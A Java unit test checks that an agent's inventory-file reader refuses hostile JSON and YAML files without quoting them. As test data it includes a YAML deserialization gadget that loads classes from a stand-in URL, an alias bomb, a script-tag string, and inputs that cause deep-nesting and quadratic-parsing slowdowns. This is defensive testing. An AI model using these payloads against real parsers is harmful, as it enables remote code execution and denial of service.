package io.ceip.agent.collect;

import io.ceip.agent.files.OwnerOnlyFiles;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

/**
 * The product's inventory files are hostile: real files in a temporary directory that are too large, links (symbolic
 * and hard), a fifo, writable by others, owned by another user, not UTF-8, not JSON or YAML, nested a hundred
 * thousand deep, a YAML alias bomb, keys given twice, trailing garbage, a second document, a Java tag — each is
 * refused with a reason that never quotes the content, quickly and without blocking; a well-formed file is read as
 * plain values.
 */
class InventoryFileRefusesHostileFilesTest {

    private static final long MAX = 4096;

    @TempDir
    Path dir;

    private Path file(String name, String content) throws Exception {
        Path file = dir.resolve(name);
        Files.writeString(file, content, StandardCharsets.UTF_8);
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-------"));
        return file;
    }

    private String refusal(Path file) {
        return assertTimeoutPreemptively(Duration.ofSeconds(10), () -> {
            try {
                InventoryFile.read(file, MAX);
                throw new AssertionError(file + " was read");
            } catch (InventoryFile.Refused e) {
                return e.getMessage();
            }
        });
    }

    @Test
    void aWellFormedFileIsReadAsPlainValues() throws Exception {
        assertThat(InventoryFile.read(file("c.json", "[{\"name\":\"core\",\"version\":\"1.0\"}]"), MAX))
                .isEqualTo(List.of(Map.of("name", "core", "version", "1.0")));
        assertThat(InventoryFile.read(file("l.yaml", "type: enterprise\nunlimited: false\n"), MAX))
                .isEqualTo(Map.of("type", "enterprise", "unlimited", false));
    }

    @Test
    void filesThatAreNotTheAgentsOwnAreRefusedUnread() throws Exception {
        Path good = file("good.json", "[]");
        assertThat(refusal(file("huge.json", "[" + "1,".repeat(3000) + "1]"))).contains("more than");
        assertThat(refusal(dir.resolve("missing.json"))).isEqualTo("does not exist");
        Path link = Files.createSymbolicLink(dir.resolve("link.json"), good);
        assertThat(refusal(link)).contains("symbolic link");
        Path secret = file("secret.json", "[\"shadow\"]");
        Files.createLink(dir.resolve("hard.json"), secret);
        assertThat(refusal(secret)).contains("hard link");
        Path writable = file("writable.json", "[]");
        Files.setPosixFilePermissions(writable, PosixFilePermissions.fromString("rw-rw-rw-"));
        assertThat(refusal(writable)).contains("writable by group or others");
        Path fifo = dir.resolve("fifo.json");
        assertThat(new ProcessBuilder("mkfifo", fifo.toString()).start().waitFor()).isZero();
        assertThat(refusal(fifo)).contains("not a regular file");
        assertThat(refusal(Files.createDirectory(dir.resolve("dir.json")))).contains("not a regular file");
        if (OwnerOnlyFiles.currentUid() == 0) {
            Path foreign = file("foreign.json", "[]");
            Files.setAttribute(foreign, "unix:uid", 4242);
            assertThat(refusal(foreign)).contains("owned by uid 4242");
        }
    }

    @Test
    void contentThatIsNotPlainJsonOrYamlIsRefusedWithoutQuotingIt() throws Exception {
        Path binary = dir.resolve("binary.json");
        Files.write(binary, new byte[] { '[', '"', (byte) 0xC3, (byte) 0x28, '"', ']' });
        Files.setPosixFilePermissions(binary, PosixFilePermissions.fromString("rw-------"));
        assertThat(refusal(binary)).isEqualTo("not UTF-8 text");
        Map<String, String> hostile = Map.of(
                "garbage.json", "hunter2 <script>alert(1)</script>",
                "trailing.json", "[] hunter2",
                "twice.json", "{\"type\":\"a\",\"type\":\"hunter2\"}",
                "deep.json", "[".repeat(100_000),
                "nan.json", "{\"unlimited\": NaN}",
                "deep.yaml", "[".repeat(1000) + "]".repeat(1000),
                "bomb.yaml", "a: &a [hunter2, hunter2]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: [*c, *c]\n",
                "twice.yaml", "type: a\ntype: hunter2\n",
                "documents.yaml", "type: a\n---\ntype: hunter2\n",
                "tag.yaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                        + " [\"http://hunter2.example/\"]]]]\n");
        for (Map.Entry<String, String> entry : hostile.entrySet()) {
            String reason = refusal(file(entry.getKey(), entry.getValue()));
            assertThat(reason).as(entry.getKey()).isNotBlank()
                    .doesNotContain("hunter2").doesNotContain("script").hasSizeLessThan(80);
        }
        StringBuilder nested = new StringBuilder();
        for (int depth = 0; depth < 20; depth++) {
            nested.append("  ".repeat(depth)).append("k").append(depth).append(":\n");
        }
        assertThat(refusal(file("nested.yaml", nested.toString()))).isEqualTo("nested deeper than 8");
        assertThat(refusal(file("alias.yaml", "a: &a [x]\nb: *a\n"))).contains("alias");
    }

    /**
     * Review s23 F5: the YAML scanner's time grows with the square of a plain value's length (a million letters: 6 s a
     * pass, and a file is parsed twice), and a YAML integer is made a BigInteger, whose parse is quadratic too (a
     * million digits: 26 s more): one value in a file within the default ceip.inventory.max-file-bytes (1 MiB) held
     * each report 10 to 35 s on one core (a 64 MiB file: days). JSON numbers were bounded to 64 characters; YAML is
     * bounded now: 65536 characters without a blank, numbers of 64.
     */
    @Test
    void aYamlValueOfAMillionCharactersOrANumberOfThousandsOfDigitsIsRefusedAtOnce() throws Exception {
        Map<String, String> hostile = Map.of(
                "digits.yaml", "type: enterprise\nunlimited: " + "9".repeat(1_000_000) + "\n",
                "letters.yaml", "type: " + "a".repeat(1_000_000) + "\n",
                "numbers.yaml", "engines: [" + ("9".repeat(60_000) + ", ").repeat(16) + "1]\n");
        for (Map.Entry<String, String> entry : hostile.entrySet()) {
            Path file = file(entry.getKey(), entry.getValue());
            String reason = assertTimeoutPreemptively(Duration.ofSeconds(3), () -> {
                try {
                    InventoryFile.read(file, 2 * 1024 * 1024);
                    throw new AssertionError(file + " was read");
                } catch (InventoryFile.Refused e) {
                    return e.getMessage();
                }
            }, entry.getKey());
            assertThat(reason).as(entry.getKey()).isEqualTo(entry.getKey().equals("numbers.yaml")
                    ? "a number longer than 64 characters" : "a value of more than 65536 characters without a blank");
        }
        assertThat(InventoryFile.read(file("short.yaml", "engines: [" + "9".repeat(64) + ", -0x1F, 0o17]\n"), MAX))
                .as("numbers within the bound are read").isInstanceOf(Map.class);
    }
}
